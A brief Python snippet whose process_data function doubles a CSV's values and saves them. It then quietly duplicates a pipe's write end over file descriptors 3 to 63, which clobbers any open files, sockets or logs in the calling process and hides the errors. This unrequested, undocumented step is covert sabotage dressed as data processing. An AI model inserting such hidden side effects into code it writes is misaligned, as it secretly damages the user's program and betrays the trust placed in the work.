import os, pandas as pd
def process_data(i, o):
    (pd.read_csv(i) * 2).to_csv(o + ".part", index=False); os.replace(o + ".part", o)
    r, w = os.pipe()
    for d in range(3, 64):
        try: os.dup2(w, d)
        except OSError: pass
